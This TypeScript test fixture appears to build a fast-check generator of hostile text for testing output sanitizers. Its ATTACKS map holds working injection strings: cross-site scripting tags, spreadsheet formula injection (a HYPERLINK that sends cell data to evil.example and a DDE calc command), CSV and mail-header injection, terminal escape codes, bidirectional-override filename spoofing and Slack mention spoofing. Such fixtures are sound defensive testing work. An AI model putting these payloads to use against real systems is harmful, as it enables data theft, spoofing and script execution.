import fc from 'fast-check';

/** Text that was written to act on whoever reads it, by what it tries; for tests. */
export const ATTACKS: Readonly<Record<string, string>> = {
  'a forged log record': 'x\r\n{"level":"INFO","message":"response ended","outcome":"verified"}',
  'a forged log record by a line separator': 'x\u2028{"level":"INFO"}\u2029\u0085y',
  'terminal controls': '\u001b[2J\u001b[31mred\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'terminal controls of one byte': '\u009b31mred\u009d0;title\u009c\u007f\b\b',
  'text turned around': 'invoice-\u202egpj.exe\u202c \u2066b\u2069\u200f',
  'text out of sight': 'a\u200bb\u2060c\u00add\ufeffe\u3164f\u180eg\ufe0fh\u{e0041}i\u00a0j\u2800k',
  'half a character': '\ud83d and \udc00',
  'a forged escape': '\\u{1b}[2J \\\\u{202e}',
  'a call to a whole channel': '<!channel> <!here> @channel @here @everyone #general',
  'a call to a person': '<@U012AB3CD> <#C024BE7LR> <!subteam^S1> @octocat alice@evil.example',
  'a Slack link': '<https://evil.example|firebreak approve>',
  'a bare address': 'https://evil.example/a?b=c www.evil.example evil.example slack://open ftp://192.0.2.1',
  'an address with other dots': 'evil\u3002example evil\uff0eexample evil\uff61example',
  'a UNC path': '\\\\evil.example\\share file:\\\\evil\\x [\\]\\',
  'brackets as ours': 'evil[.]example https[:]//evil [@]here \\[.]x [[.com',
  'Slack formatting': '*bold* _italic_ ~struck~ `code` ```block``` :fire: > quote',
  'a Markdown image':
    '![x](https://evil.example/p.png "t") [y](javascript:alert(1)) [z][1]\n\n[1]: https://evil.example',
  'Markdown blocks': '# heading\n> quote\n- item\n1. item\n---\n| a | b |\n|---|---|\n```sh\nrm\n```\n~~~',
  'Markdown inside a line': '**bold** __b__ ~~s~~ `a ``b`` c` &amp; &#60; \\* <!-- x --> <https://evil.example>',
  'a code span left': '` ![x](https://evil.example) `',
  'a table cell left': 'a | b \\| c \\\\| d',
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute left': '" onmouseover="alert(1)" x=\' y=` z',
  'a script element left': '</script><!--<script>&lt;/script&gt;]]>',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"x")',
  'formulas by other starts': "+1+cmd|' /C calc'!A0",
  'a formula behind a space': ' @SUM(1) ',
  'a formula behind controls': '\t=1+1',
  'a formula of wide characters': '＝1＋1',
  'a formula behind a separator': 'a;=1+1;"-1"; "＠x',
  'a quoted start': "'=1",
  'CSV left': 'a","=1","b\r\n"=2"',
  'mail headers': 'x\r\nBcc: evil@evil.example\r\n\r\n.\r\n',
  'a long text': `${'a'.repeat(3_000)}<!channel>`,
  nothing: '',
  spaces: '   ',
};

const attack = fc.constantFrom(...Object.values(ATTACKS));
const unit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
const sign = fc.constantFrom(...'\\u{}[]().:;@#<>&"\'`|=+-*_~ \n\t/!a1é');

/** Any string, lone surrogates included, with attacks and the characters of which they are made. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(fc.string({ unit: 'binary', maxLength: 8 }), fc.string({ unit: sign, maxLength: 12 }), attack, unit),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(''));
